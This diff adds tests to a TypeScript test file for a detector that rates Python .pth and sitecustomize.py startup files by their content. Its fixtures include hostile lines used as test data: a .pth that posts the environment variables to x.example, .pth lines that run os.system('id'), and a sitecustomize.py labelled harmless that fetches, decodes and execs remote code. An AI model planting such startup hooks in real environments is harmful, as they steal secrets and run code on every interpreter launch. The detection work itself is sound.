@@ -49,16 +49,53 @@ describe('runtime-startup-hook', () => {
       expect(s?.reason).toMatch(/first 9 of 131072 bytes read/);
     });
 
-    it('reports the .pth files packaging tools write at low', () => {
+    it('reports the .pth lines packaging tools write at low, by their content', () => {
       const a = file(`${SITE}/distutils-precedence.pth`);
       const b = file(`${SITE}/google_api-1.0-py3.8-nspkg.pth`);
       const signals = runtimeStartupHook.evaluate(
         view([a, b], {
-          [a.path]: "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n",
-          [b.path]: 'import sys, types, os\n',
+          [a.path]:
+            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+          [b.path]: 'import sys, types, os; (p not in mp) and mp.append(p)\n',
         }),
       );
       expect(signals.map((s) => s.severity)).toEqual(['low', 'low']);
+    });
+
+    const NSPKG =
+      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
+
+    it.each([
+      [
+        'a namespace-package name that sends the environment out',
+        'protobuf-4.25.3-py3.12-nspkg.pth',
+        "import os, urllib.request; urllib.request.urlopen('https://x.example', data=repr(dict(os.environ)).encode())\n",
+        'high',
+      ],
+      [
+        'the namespace shape with one statement added',
+        'google_api-nspkg.pth',
+        NSPKG.replace('(p not in mp)', "__import__('os').system('id');(p not in mp)"),
+        'high',
+      ],
+      [
+        'the distutils name running something else',
+        'distutils-precedence.pth',
+        "import os; os.system('id')\n",
+        'high',
+      ],
+      ['the namespace shape under any name', 'zz-anything.pth', NSPKG, 'low'],
+      ['the namespace shape under its usual name', 'protobuf-4.25.3-py3.12-nspkg.pth', NSPKG, 'low'],
+      [
+        'the distutils shim',
+        'distutils-precedence.pth',
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+        'low',
+      ],
+    ])('judges %s by its content (%s)', (_, name, content, severity) => {
+      const e = file(`${SITE}/${name}`);
+      const [s] = runtimeStartupHook.evaluate(view([e], { [e.path]: content }));
+      expect(s?.severity).toBe(severity);
     });
 
     it('says nothing about a .pth of paths only, or one not read', () => {
@@ -81,6 +118,21 @@ describe('runtime-startup-hook', () => {
     expect(runtimeStartupHook.evaluate(view([file(path)]))).toEqual([
       expect.objectContaining({ id: 'runtime-startup-hook', severity: 'high', path }),
     ]);
+  });
+
+  it('reads a sitecustomize.py to say what it does, and rates it high whatever it does', () => {
+    const e = file('python/sitecustomize.py');
+    expect(runtimeStartupHook.wants(e)).toBe(PTH_BYTES);
+    const [s] = runtimeStartupHook.evaluate(
+      view([e], {
+        [e.path]:
+          "# harmless\nimport os, base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('https://x.example').read()))\n",
+      }),
+    );
+    expect(s?.severity).toBe('high');
+    expect(s?.reason).toMatch(
+      /its code uses the network \(urllib\); decodes or evaluates data \(exec\(, base64\.b64decode\)/,
+    );
   });
 
   it.each([
